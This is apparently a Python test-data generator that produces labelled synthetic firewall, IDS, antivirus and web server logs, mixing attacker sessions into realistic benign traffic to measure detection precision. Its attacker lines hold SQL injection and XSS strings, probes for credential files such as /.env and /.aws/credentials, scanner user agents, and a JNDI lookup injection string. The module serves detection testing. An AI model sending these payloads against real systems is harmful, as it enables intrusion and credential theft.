"""Labelled synthetic logs: attackers mixed into benign traffic (benchmarks, quality tests, demos).

:func:`generate` yields log lines of one source and records which values
(addresses or hashes) are attackers. Benign traffic includes private
addresses, internal host names, crawlers, monitoring, the odd 404 and the odd
failed login, so precision is measured against realistic noise. With
``distinct_ips`` every line comes from a new address (the memory benchmark).
"""

from __future__ import annotations

import hashlib
import json
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from functools import partial

SOURCES = (
    "ufw",
    "fail2ban",
    "suricata",
    "zeek",
    "clamav",
    "nginx_access",
    "apache_access",
    "nginx_error",
    "apache_error",
)
START = datetime(2026, 3, 2, 8, 0, 0, tzinfo=UTC)
_BENIGN_PATHS = (
    "/",
    "/index.html",
    "/about",
    "/blog/2026/02/spring-release",
    "/static/css/site.css",
    "/static/js/app.js",
    "/images/logo.png",
    "/api/v1/items?page=2",
    "/search?q=opening+hours",
    "/contact",
    "/favicon.ico",
    "/robots.txt",
)
_BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "curl/8.5.0",
    "kube-probe/1.29",
)
_PROBES = (
    "/.env",
    "/.git/config",
    "/wp-config.php.bak",
    "/phpmyadmin/index.php",
    "/cgi-bin/../../etc/passwd",
    "/.aws/credentials",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/admin/config.php",
    "/.DS_Store",
    "/server-status",
)
_SQLI = (
    "/item?id=1%27%20OR%20%271%27=%271",
    "/search?q=1+union+select+user,password+from+users",
    "/news?id=5;waitfor delay '0:0:5'--",
    "/product?id=1%20AND%20sleep(5)",
    "/list?sort=information_schema.tables",
)
_XSS = (
    "/search?q=<script>alert(1)</script>",
    "/comment?text=%3Cimg%20src=x%20onerror=alert(1)%3E",
    "/p?x=javascript:alert(document.cookie)",
    "/q?s=<svg/onload=prompt(1)>",
)
_SCANNERS = (
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
    "Mozilla/5.0 zgrab/0.x",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
)
_INTERNAL_HOSTS = ("intranet.corp.local", "wiki.lan", "gitlab.internal", "www.example.org")


@dataclass
class Labelled:
    """Ground truth of one generated log: attacker values and benign values seen."""

    source: str
    attackers: set[str] = field(default_factory=set)
    benign: set[str] = field(default_factory=set)
    partial: set[str] = field(default_factory=set)
    """Attackers whose session the log cut short: counted neither way."""


def _at(
    line: Callable[..., str],
    ip: str,
    method: str,
    path: str,
    status: int,
    agent: str,
    moment: datetime,
) -> str:
    return line(ip, moment, method, path, status, agent)


def _port_at(make: Callable[..., str], ip: str, port: int, moment: datetime) -> str:
    return make(ip, moment, port)


def _eve_at(make: Callable[..., str], ip: str, alert: dict[str, object], moment: datetime) -> str:
    return make(moment, "alert", ip, "10.0.0.5", alert)


def _conn_at(make: Callable[..., str], ip: str, port: int, moment: datetime) -> str:
    return make(moment, ip, port, "REJ")


def _public_ip(rng: random.Random) -> str:
    while True:
        first = rng.choice((23, 31, 45, 51, 62, 77, 85, 91, 103, 109, 141, 176, 185, 193, 212))
        return f"{first}.{rng.randrange(1, 255)}.{rng.randrange(0, 255)}.{rng.randrange(1, 255)}"


def _private_ip(rng: random.Random) -> str:
    return rng.choice(
        (
            f"10.0.{rng.randrange(0, 4)}.{rng.randrange(2, 250)}",
            f"192.168.1.{rng.randrange(2, 250)}",
            f"172.16.{rng.randrange(0, 3)}.{rng.randrange(2, 250)}",
        )
    )


def _clf(moment: datetime) -> str:
    return moment.strftime("%d/%b/%Y:%H:%M:%S +0000")


def _syslog(moment: datetime) -> str:
    return (
        moment.strftime("%b %d %H:%M:%S").replace(" 0", "  ", 1)
        if moment.day < 10
        else moment.strftime("%b %d %H:%M:%S")
    )


Session = Iterator[Callable[[datetime], str]]


def _access(
    rng: random.Random, truth: Labelled
) -> tuple[Callable[[], Session], Callable[[datetime, str], str]]:
    def line(
        ip: str, moment: datetime, method: str, path: str, status: int, agent: str, host: str = ""
    ) -> str:
        prefix = f"{host} " if host else ""
        size = rng.randrange(100, 9000)
        request = f"{method} {path} HTTP/1.1"
        return f'{prefix}{ip} - - [{_clf(moment)}] "{request}" {status} {size} "-" "{agent}"'

    def attacker() -> Session:
        ip = _public_ip(rng)
        truth.attackers.add(ip)
        kind = rng.choice(("probe", "sqli", "xss", "rce", "scanner", "flood", "auth", "form"))
        agent = _BROWSERS[0]
        if kind == "probe":
            steps = [("GET", p, 404) for p in rng.sample(_PROBES, 5)]
        elif kind == "sqli":
            steps = [("GET", p, rng.choice((200, 500))) for p in rng.sample(_SQLI, 4)]
        elif kind == "xss":
            steps = [("GET", p, 200) for p in rng.sample(_XSS, 4)]
        elif kind == "rce":
            steps, agent = [("GET", "/", 200)], "${jndi:ldap://" + ip + ":1389/a}"
        elif kind == "scanner":
            steps, agent = [("GET", "/", 200), ("GET", "/login", 200)], rng.choice(_SCANNERS)
        elif kind == "flood":
            steps = [("GET", f"/{rng.getrandbits(32):x}.php", 404) for _ in range(30)]
        elif kind == "auth":
            steps = [("GET", "/admin/login", 401) for _ in range(14)]
        else:
            steps = [("POST", "/wp-login.php", 200) for _ in range(15)]
        for method, path, status in steps:
            yield partial(_at, line, ip, method, path, status, agent)

    def benign_line(moment: datetime, ip: str) -> str:
        roll = rng.random()
        path, status, method = rng.choice(_BENIGN_PATHS), 200, "GET"
        if roll < 0.03:
            path, status = "/old-page.html", 404
        elif roll < 0.04:
            path, status, method = "/login", 200, "POST"
        elif roll < 0.045:
            path, status = "/admin/login", 401
        host = rng.choice(_INTERNAL_HOSTS) if rng.random() < 0.1 else ""
        return line(ip, moment, method, path, status, rng.choice(_BROWSERS), host)

    return attacker, benign_line


def _sessions(
    source: str, rng: random.Random, truth: Labelled
) -> tuple[Callable[[], Session], Callable[[datetime, str], str]]:
    if source in ("nginx_access", "apache_access"):
        return _access(rng, truth)
    host = rng.choice(("web01", "fw.corp.local", "edge-2"))
    if source == "ufw":

        def ufw(ip: str, moment: datetime, port: int, proto: str = "TCP") -> str:
            return (
                f"{_syslog(moment)} {host} kernel: [1234.5678] [UFW BLOCK] IN=eth0 OUT= "
                "MAC=00:00:00:00:00:00:00:00:00:00:00:00:08:00 "
                f"SRC={ip} DST=203.0.113.10 LEN=44 TOS=0x00 PREC=0x00 TTL=49 ID=1 PROTO={proto} "
                f"SPT={rng.randrange(1024, 65535)} DPT={port} WINDOW=1024 RES=0x00 SYN URGP=0"
            )

        def ufw_attacker() -> Session:
            ip = _public_ip(rng)
            truth.attackers.add(ip)
            ports = rng.sample(range(1, 10000), 15) if rng.random() < 0.5 else [23] * 35
            for port in ports:
                yield partial(_port_at, ufw, ip, port)

        return ufw_attacker, lambda moment, ip: ufw(
            ip,
            moment,
            rng.choice((22, 23, 3389, 445, 5353)),
            "UDP" if rng.random() < 0.3 else "TCP",
        )
    if source == "fail2ban":

        def f2b(moment: datetime, jail: str, action: str, ip: str) -> str:
            stamp = f"{moment.strftime('%Y-%m-%d %H:%M:%S')},{rng.randrange(1000):03d}"
            return f"{stamp} fail2ban.filter         [812]: INFO    [{jail}] {action} {ip}"

        def f2b_attacker() -> Session:
            ip = _public_ip(rng)
            truth.attackers.add(ip)
            jail = rng.choice(("sshd", "nginx-http-auth", "postfix-sasl"))
            for _ in range(5):
                yield lambda moment: f2b(moment, jail, "Found", ip)
            yield (
                lambda moment: (
                    f2b(moment, jail, "Ban", ip)
                    .replace("fail2ban.filter ", "fail2ban.actions")
                    .replace("INFO   ", "NOTICE ")
                )
            )

        return f2b_attacker, lambda moment, ip: f2b(moment, "sshd", "Found", ip)
    if source == "suricata":

        def eve(moment: datetime, kind: str, src: str, dest: str, extra: dict[str, object]) -> str:
            record = {
                "timestamp": moment.strftime("%Y-%m-%dT%H:%M:%S.000000+0000"),
                "flow_id": rng.getrandbits(48),
                "event_type": kind,
                "src_ip": src,
                "src_port": rng.randrange(1024, 65535),
                "dest_ip": dest,
                "dest_port": 443,
                "proto": "TCP",
                **extra,
            }
            return json.dumps(record)

        def suri_attacker() -> Session:
            ip = _public_ip(rng)
            truth.attackers.add(ip)
            alert: dict[str, object] = {
                "alert": {
                    "signature": "ET SCAN Suspicious inbound to mySQL port 3306",
                    "category": "Potentially Bad Traffic",
                    "severity": rng.choice((1, 2)),
                }
            }
            yield partial(_eve_at, eve, ip, alert)

        def suri_benign(moment: datetime, ip: str) -> str:
            if rng.random() < 0.02:
                return eve(
                    moment,
                    "alert",
                    ip,
                    "10.0.0.5",
                    {
                        "alert": {
                            "signature": "ET INFO Session Traversal Utilities for NAT",
                            "category": "Misc activity",
                            "severity": 3,
                        }
                    },
                )
            return eve(
                moment,
                rng.choice(("flow", "dns", "http", "tls")),
                "10.0.0.5",
                ip,
                {"dns": {"rrname": "updates.example.net"}},
            )

        return suri_attacker, suri_benign
    if source == "zeek":

        def conn(moment: datetime, src: str, port: int, state: str) -> str:
            return json.dumps(
                {
                    "_path": "conn",
                    "ts": moment.timestamp(),
                    "uid": f"C{rng.getrandbits(40):x}",
                    "id.orig_h": src,
                    "id.orig_p": rng.randrange(1024, 65535),
                    "id.resp_h": "10.1.0.4",
                    "id.resp_p": port,
                    "proto": "tcp",
                    "conn_state": state,
                }
            )

        def zeek_attacker() -> Session:
            ip = _public_ip(rng)
            truth.attackers.add(ip)
            if rng.random() < 0.3:
                yield lambda moment: json.dumps(
                    {
                        "_path": "notice",
                        "ts": moment.timestamp(),
                        "note": "SSH::Password_Guessing",
                        "msg": f"{ip} appears to be guessing SSH passwords",
                        "src": ip,
                        "dst": "10.1.0.4",
                    }
                )
                return
            for port in rng.sample(range(1, 5000), 25):
                yield partial(_conn_at, conn, ip, port)

        return zeek_attacker, lambda moment, ip: conn(
            moment, ip, rng.choice((80, 443, 22)), rng.choice(("SF", "SF", "S1", "REJ"))
        )
    if source == "clamav":

        def clam_attacker() -> Session:
            md5 = hashlib.md5(rng.randbytes(16), usedforsecurity=False).hexdigest()  # a file id
            truth.attackers.add(md5)
            yield (
                lambda moment: (
                    f"{moment.strftime('%a %b %d %H:%M:%S %Y')} -> /srv/uploads/{md5[:8]}.bin: "
                    f"Win.Trojan.Agent-{rng.randrange(9999)}({md5}:{rng.randrange(99, 999)}) FOUND"
                )
            )

        return (
            clam_attacker,
            lambda moment, ip: f"/srv/uploads/report-{rng.getrandbits(24):x}.pdf: OK",
        )
    if source == "nginx_error":

        def ngx(moment: datetime, ip: str, message: str, request: str = "GET / HTTP/1.1") -> str:
            head = (
                f"{moment.strftime('%Y/%m/%d %H:%M:%S')} [error] 812#812: *{rng.randrange(99999)}"
            )
            server = rng.choice(_INTERNAL_HOSTS)
            tail = f'server: {server}, request: "{request}", host: "x.org"'
            return f"{head} {message}, client: {ip}, {tail}"

        def ngx_attacker() -> Session:
            ip = _public_ip(rng)
            truth.attackers.add(ip)
            kind = rng.choice(("auth", "limit", "forbidden", "probe"))
            for _ in range({"auth": 12, "limit": 8, "forbidden": 6, "probe": 4}[kind]):
                if kind == "auth":
                    yield lambda moment: ngx(moment, ip, 'user "admin": password mismatch')
                elif kind == "limit":
                    yield lambda moment: ngx(
                        moment, ip, 'limiting requests, excess: 5.1 by zone "one"'
                    )
                elif kind == "forbidden":
                    yield lambda moment: ngx(moment, ip, "access forbidden by rule")
                else:
                    yield lambda moment: ngx(
                        moment,
                        ip,
                        'open() "/var/www/.env" failed (2: No such file or directory)',
                        "GET /.env HTTP/1.1",
                    )

        def ngx_benign(moment: datetime, ip: str) -> str:
            if rng.random() < 0.05:
                return ngx(moment, _public_ip(rng), 'user "alice": password mismatch')
            return ngx(
                moment,
                ip,
                "upstream timed out (110: Connection timed out) while reading response header",
            )

        return ngx_attacker, ngx_benign
    if source == "apache_error":

        def apa(moment: datetime, ip: str, message: str) -> str:
            stamp = moment.strftime("%a %b %d %H:%M:%S.%f %Y")
            client = f"{ip}:{rng.randrange(1024, 65535)}"
            return f"[{stamp}] [auth_basic:error] [pid 812:tid 1401] [client {client}] {message}"

        def apa_attacker() -> Session:
            ip = _public_ip(rng)
            truth.attackers.add(ip)
            probe = rng.random() < 0.4
            for _ in range(4 if probe else 12):
                yield (
                    (
                        lambda moment: apa(
                            moment, ip, "AH00128: File does not exist: /var/www/html/phpmyadmin"
                        )
                    )
                    if probe
                    else (
                        lambda moment: apa(
                            moment,
                            ip,
                            "AH01617: user admin: authentication failure for "
                            '"/private": Password Mismatch',
                        )
                    )
                )

        def apa_benign(moment: datetime, ip: str) -> str:
            roll = rng.random()
            if roll < 0.02:
                return apa(
                    moment,
                    ip,
                    "AH01797: client denied by server configuration: /var/www/html/private/a.pdf",
                )
            if roll < 0.05:
                return apa(moment, _public_ip(rng), "AH01618: user bob not found: /private")
            return apa(
                moment,
                ip,
                "AH01276: Cannot serve directory /var/www/html/docs/: No matching DirectoryIndex",
            )

        return apa_attacker, apa_benign
    raise ValueError(f"no generator for source {source!r} (known: {', '.join(SOURCES)})")


def generate(
    source: str,
    lines: int,
    *,
    seed: int = 7,
    attack_share: float = 0.05,
    distinct_ips: bool = False,
    start: datetime = START,
    seconds_per_line: float = 0.05,
    truth: Labelled | None = None,
) -> Iterator[str]:
    """Yield ``lines`` log lines of ``source``; ``truth`` collects attacker and benign values.

    Raises:
        ValueError: unknown source.
    """
    rng = random.Random(seed)  # noqa: S311  # nosec B311  # reproducible synthetic traffic, not secrets
    labels = truth if truth is not None else Labelled(source)
    new_attacker, benign_line = _sessions(source, rng, labels)
    attackers = labels.attackers
    labels.attackers = (
        set()
    )  # sessions add themselves; an attacker counts once its session is complete
    regulars = [_public_ip(rng) for _ in range(300)] + [_private_ip(rng) for _ in range(60)]
    noisy = source in ("ufw", "fail2ban", "nginx_error", "apache_error", "suricata", "zeek")
    active: list[tuple[Session, set[str]]] = []
    moment = start
    counter = 0
    for _ in range(lines):
        moment += timedelta(seconds=seconds_per_line)
        if not distinct_ips and rng.random() < attack_share:
            if len(active) < 3:
                before = set(labels.attackers)
                session = new_attacker()
                step = next(session, None)
                active.append((session, labels.attackers - before))
                labels.attackers = before
            else:
                index = rng.randrange(len(active))
                session, who = active[index]
                step = next(session, None)
                if step is None:
                    attackers.update(who)
                    del active[index]
            if step is not None:
                yield step(moment)
                continue
        if distinct_ips:
            counter += 1
            high = 11 + (counter >> 24) % 200
            ip = f"{high}.{(counter >> 16) & 255}.{(counter >> 8) & 255}.{counter & 255}"
        elif source == "fail2ban" or (noisy and rng.random() < 0.7):
            ip = _public_ip(rng)
        else:
            ip = rng.choice(regulars)
        if truth is not None:  # unasked, a million benign labels would only weigh on memory
            labels.benign.add(ip)
        yield benign_line(moment, ip)
    labels.attackers = attackers
    for _, who in active:
        labels.partial.update(who)
    labels.benign -= attackers | labels.partial
